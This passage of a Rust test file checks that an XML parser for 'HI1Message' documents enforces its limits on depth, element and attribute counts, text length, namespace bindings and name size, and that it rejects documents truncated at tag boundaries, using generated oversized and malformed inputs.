            SAMPLE,
            Want::Limit("element depth"),
        )
        .limits(Limits {
            max_depth: 8,
            ..Limits::default()
        }),
        case(
            "limit_elements_of_the_sample",
            SAMPLE,
            Want::Limit("elements"),
        )
        .limits(Limits {
            max_elements: 50,
            ..Limits::default()
        }),
        case(
            "limit_items_of_the_sample",
            SAMPLE,
            Want::Limit("handover items"),
        )
        .limits(Limits {
            max_items: 1,
            ..Limits::default()
        })
        .doc(Want::Valid),
        case(
            "limit_errors_of_many_bad_attributes",
            edit(
                "<Header>",
                &many_attributes("Header", 1000, |s, i| s.push_str(&format!("a{i}=\"\"")))
                    .replacen("/>", ">", 1),
            ),
            Want::UnexpectedAttribute,
        )
        .limits(Limits {
            max_errors: 5,
            ..Limits::default()
        }),
        case(
            "base64_oversized_with_text_limit",
            binary_delivery(&b64),
            Want::Limit("text length"),
        )
        .limits(limits_text(MB)),
        case(
            "text_limit_in_simple_content",
            sender_id(&two_mb),
            Want::Limit("text length"),
        )
        .limits(limits_text(MB)),
        case(
            "text_limit_across_entity_references",
            sender_id(&"&amp;".repeat(300_000)),
            Want::Limit("text length"),
        )
        .limits(limits_text(100_000)),
        case(
            "text_limit_across_cdata_sections",
            sender_id(&"<![CDATA[aaaaaaaaaa]]>".repeat(20_000)),
            Want::Limit("text length"),
        )
        .limits(limits_text(100_000)),
        case(
            "text_limit_in_signature_anytype",
            with_signature(&two_mb),
            Want::Limit("text length"),
        )
        .limits(limits_text(MB)),
        case(
            "text_limit_in_xmldata_lax_wildcard",
            in_xmldata(&format!("<csp:body>{two_mb}</csp:body>")),
            Want::Limit("text length"),
        )
        .limits(limits_text(MB)),
    ]
}

#[test]
fn binary_delivery_control_is_schema_valid() {
    // The base64 cases edit this document; with good base64 it is valid against the schemas.
    let doc = binary_delivery("QUJDRA==");
    let report = Document::validate_xml(doc.as_bytes());
    assert!(report.is_valid(), "{report}");
    assert!(Document::from_xml(doc.as_bytes()).is_ok());
}

#[test]
fn hostile_documents() {
    let mut cases = dtd_and_entity_cases();
    cases.extend(encoding_cases());
    cases.extend(namespace_cases());
    cases.extend(markup_cases());
    cases.extend(limit_cases());
    assert!(cases.len() >= 50, "{} cases", cases.len());
    run("hostile_documents", cases);
}

#[test]
fn deep_nesting() {
    let n = 1_000_000;
    let x = nested(n, "<x>", "</x>");
    let depth = Want::Limit("element depth");
    let mut ns = String::with_capacity(100_000 * 40);
    for i in 0..100_000 {
        ns.push_str(&format!(
            "<p{i}:x xmlns:p{i}=\"urn:{i}\" xmlns=\"urn:d{i}\">"
        ));
    }
    for i in (0..100_000).rev() {
        ns.push_str(&format!("</p{i}:x>"));
    }
    run(
        "deep_nesting",
        vec![
            case("depth_1e6_in_signature_anytype", with_signature(&x), depth),
            case(
                "depth_1e6_in_xmldata_lax_wildcard",
                in_xmldata(&nested(n, "<csp:x>", "</csp:x>")),
                depth,
            ),
            case(
                "depth_1e6_under_an_unknown_root",
                x.clone(),
                Want::UnknownRoot,
            )
            .also(depth),
            case(
                "depth_1e6_in_header",
                in_header(&x),
                Want::UnexpectedElement,
            )
            .also(depth),
            case(
                "depth_1e6_of_typed_elements",
                format!(
                    "<HI1Message xmlns=\"{CORE}\">{}",
                    nested(n, "<Header>", "</Header>")
                ),
                Want::UnexpectedElement,
            )
            .also(depth),
            // Two declarations per level reach the bound on namespace bindings in scope (128)
            // before the depth limit: memory stays bounded either way.
            case(
                "depth_1e5_with_namespace_declarations_in_signature",
                with_signature(&ns),
                Want::Limit("namespace bindings in scope"),
            ),
            case(
                "depth_1e5_with_namespace_declarations_in_xmldata",
                in_xmldata(&ns),
                Want::Limit("namespace bindings in scope"),
            ),
            case(
                "depth_1e6_below_100_namespace_declarations_in_signature",
                with_signature(&format!(
                    "{}{x}",
                    &ns[..ns.find("<p50:x").expect("level 50")]
                )),
                depth,
            ),
            case(
                "elements_1e6_flat_in_signature",
                with_signature(&"<x/>".repeat(n)),
                Want::Limit("elements"),
            )
            .limits(Limits {
                max_elements: 10_000,
                ..Limits::default()
            }),
        ],
    );
}

/// The sample with a text node of 200 MB as the sender's `UniqueIdentifier`: one run of
/// characters, or 1 MB runs separated by a character reference (still one text node).
fn text_200mb(separator: &str) -> Vec<u8> {
    let text = sender_id("\u{1}");
    let (head, tail) = text.split_once('\u{1}').expect("marker");
    let mut doc = Vec::with_capacity(text.len() + 200 * (MB + separator.len()));
    doc.extend_from_slice(head.as_bytes());
    for _ in 0..200 {
        doc.resize(doc.len() + MB, b'a');
        doc.extend_from_slice(separator.as_bytes());
    }
    doc.extend_from_slice(tail.as_bytes());
    doc
}

#[test]
fn a_200_mb_text_node() {
    // One 200 MB input at a time. `read` alone for the single run: it calls
    // `from_xml_with_limits` and then `validate_xml_with` itself, and each pass scans the
    // 200 MB run before the text limit can see it (seconds in a debug build).
    run(
        "a_200_mb_text_node (size limit)",
        vec![case(
            "text_200mb_with_size_limit",
            text_200mb(""),
            Want::Limit("document size (bytes)"),
        )
        .limits(Limits {
            max_size: 64 * MB,
            ..Limits::default()
        })
        .read_only()],
    );
    run(
        "a_200_mb_text_node (text limit)",
        vec![case(
            "text_200mb_with_text_limit",
            text_200mb(""),
            Want::Limit("text length"),
        )
        .limits(limits_text(MB))
        .read_only()],
    );
    // In 1 MB runs the text limit stops every entry point after the second run.
    run(
        "a_200_mb_text_node (runs)",
        vec![case(
            "text_200mb_in_runs_with_text_limit",
            text_200mb("&#97;"),
            Want::Limit("text length"),
        )
        .limits(limits_text(MB))],
    );
}

#[test]
fn a_million_attributes() {
    let n = 1_000_000;
    let plain = |s: &mut String, i: usize| s.push_str(&format!("a{i}=\"\""));
    let signature = with_signature(&many_attributes("x", n, plain));
    // The same flaws, at a tenth of the size (each 10^6 pass costs about a second).
    let xmldata = in_xmldata(&many_attributes("csp:x", n / 10, plain));
    let header_attrs = many_attributes("Header", n / 10, plain);
    let header = edit(
        "<Header>",
        &format!("{}>", &header_attrs[..header_attrs.len() - 2]),
    );
    let decls = many_attributes("HI1Message", n / 10, |s, i| {
        s.push_str(&format!("xmlns:p{i}=\"urn:p\""))
    });
    let root = format!(
        "{} xmlns=\"{CORE}\"><Header/></HI1Message>",
        &decls[..decls.len() - 2]
    );
    let attrs = Want::Limit("attributes on one element");
    run(
        "a_million_attributes",
        vec![
            case("attrs_1e6_in_signature_anytype", signature, attrs),
            case("attrs_1e5_in_xmldata_lax_wildcard", xmldata, attrs),
            case(
                "attrs_1e5_namespace_declarations_on_root",
                root,
                Want::Limit("namespace bindings in scope"),
            ),
            // On a typed element the first undeclared attribute is the error; validation stops
            // at the error limit.
            case(
                "attrs_1e5_undeclared_on_header",
                header,
                Want::UnexpectedAttribute,
            ),
        ],
    );
}

#[test]
fn megabyte_names() {
    let long = "n".repeat(MB);
    run(
        "megabyte_names",
        vec![
            case(
                "name_1mb_root",
                format!("<{long} xmlns=\"{CORE}\"/>"),
                Want::UnknownRoot,
            ),
            case(
                "name_1mb_child_of_header",
                in_header(&format!("<{long}/>")),
                Want::UnexpectedElement,
            ),
            case(
                "name_1mb_mismatched_end_tag",
                with_signature(&format!("<{long}></{long}x>")),
                Want::Syntax,
            ),
            case(
                "name_1mb_attribute_on_header",
                edit("<Header>", &format!("<Header {long}=\"1\">")),
                Want::UnexpectedAttribute,
            ),
            case(
                "name_1mb_unbound_prefix",
                in_header(&format!("<{long}:x/>")),
                Want::UnboundPrefix,
            ),
            case(
                "name_1mb_unclosed_at_eof",
                format!("<HI1Message xmlns=\"{CORE}\"><{long}"),
                Want::Syntax,
            ),
        ],
    );
}

/// The sample cut after every `>` of a start or end tag before the root's end tag: each cut is
/// an error (the input ends inside an element).
#[test]
fn truncated_at_every_tag_boundary() {
    let root_end = SAMPLE.rfind("</HI1Message>").expect("root end tag");
    let bytes = SAMPLE.as_bytes();
    let mut cuts = Vec::new();
    let mut from = 0;
    while let Some(p) = SAMPLE[from..].find('<') {
        let start = from + p;
        let close = start + SAMPLE[start..].find('>').expect("tag end");
        if start < root_end && !matches!(bytes[start + 1], b'!' | b'?') {
            cuts.push(close + 1);
        }
        from = close + 1;
    }
    assert!(cuts.len() > 200, "{} cuts", cuts.len());
    let mut cases: Vec<Case> = cuts
        .iter()
        .enumerate()
        .map(|(i, &cut)| {
            case(
                &format!("truncated_after_tag_{i}_at_byte_{cut}"),
                &bytes[..cut],
                Want::Syntax,
            )
        })
        .collect();
    // And a few cuts inside tokens.
    for (name, marker) in [
        ("truncated_inside_a_start_tag", "<Header"),
        (
            "truncated_inside_an_attribute_value",
            "xsi:type=\"delivery:Del",
        ),
        ("truncated_inside_a_comment", "<!-- Item 1"),
        ("truncated_inside_an_end_tag", "</Header"),
        ("truncated_inside_an_entity_reference", "&am"),
    ] {
        let doc = if marker == "&am" {
            sender_id("a&amp;b")
        } else {
            SAMPLE.to_owned()
        };
        let cut = doc.find(marker).expect("marker") + marker.len();
        cases.push(case(name, &doc.as_bytes()[..cut], Want::Syntax));
    }
    let n = cases.len();
    run("truncated_at_every_tag_boundary", cases);
    println!("{n} truncations");
}
